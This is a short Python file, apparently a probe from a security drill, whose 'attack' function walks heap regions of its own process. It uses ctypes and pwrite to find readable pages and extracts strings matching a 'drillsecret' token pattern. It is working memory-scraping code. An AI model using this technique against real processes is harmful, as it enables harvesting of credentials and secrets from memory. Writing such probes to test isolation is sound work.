# Scans the heap around its own objects without any file: reads by ctypes, probing pages by a failing write.
# proof: secret
# control: none, because where an allocator puts things is chance
import ctypes
import os
import re


def attack(arg):
    found, pages = set(), set()
    sink = os.open("probe", os.O_WRONLY | os.O_CREAT)
    libc = ctypes.CDLL(None)
    libc.pwrite.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
    for thing in [object(), "text" * 3, bytearray(100), b"x" * 5000, [], {}, "y" * 200_000, attack, os, re]:
        pages.add(id(thing) >> 22)
    top = ctypes.CDLL(None).sbrk
    top.restype = ctypes.c_void_p
    pages.update((top(0) >> 22) - i for i in range(8))
    for region in sorted(pages):
        for page in range(region << 22, (region + 1) << 22, 4096):
            if libc.pwrite(sink, page, 4096, 0) == 4096:
                found.update(re.findall(rb"drillsecret[0-9a-f]{16}", ctypes.string_at(page, 4096)))
    return sorted(found)
